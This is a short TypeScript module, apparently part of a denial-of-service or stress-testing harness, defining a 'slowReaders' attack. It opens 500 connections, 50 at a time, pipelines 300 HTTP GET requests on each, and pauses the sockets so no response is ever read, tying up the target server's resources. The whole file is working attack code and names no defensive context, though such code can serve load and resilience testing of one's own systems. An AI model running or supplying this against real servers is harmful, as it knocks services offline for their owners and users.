import type { Attack } from '../attack.ts'
import { encodeRequest, holdOpen } from '../sockets.ts'

/** 300 pages each, asked for in one breath; nobody reads a byte of them. */
export const slowReaders: Attack = {
  about: '500 connections that ask for 300 pages each and read none',
  async prepare(target) {
    const calls = Buffer.concat(
      Array.from({ length: 300 }, () => encodeRequest({ method: 'GET', path: '/' })),
    )
    return (tally, signal) =>
      holdOpen(
        target,
        {
          connections: 500,
          atOnce: 50,
          begin(socket) {
            socket.pause()
            socket.write(calls)
          },
        },
        { tally, signal },
      )
  },
}
